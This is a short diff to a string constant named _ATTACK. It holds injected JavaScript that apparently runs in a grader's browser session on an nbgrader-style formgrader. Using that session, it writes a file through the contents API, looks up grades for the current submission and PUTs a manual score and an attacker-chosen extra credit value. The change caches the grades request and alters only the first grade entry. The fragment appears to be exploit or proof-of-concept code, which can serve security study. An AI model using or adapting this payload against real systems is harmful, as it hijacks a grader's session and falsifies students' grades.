@@ -22,10 +22,9 @@ _ATTACK = """
     fetch(address, {method: "PUT", headers, body: JSON.stringify(body)});
   await put(`/api/contents/%s`, {type: "file", format: "text", content: name});
   const submission = top.location.pathname.split("/")[3];
-  const grades = await fetch(`/formgrader/api/grades?submission_id=${submission}`);
-  for (const {id} of await grades.json()) {
-    await put(`/formgrader/api/grade/${id}`, {manual_score: 1, extra_credit: %s});
-  }
+  top.grades ??= fetch(`/formgrader/api/grades?submission_id=${submission}`).then((a) => a.json());
+  const [{id}] = await top.grades;
+  await put(`/formgrader/api/grade/${id}`, {manual_score: 1, extra_credit: %s});
 })
 """
 
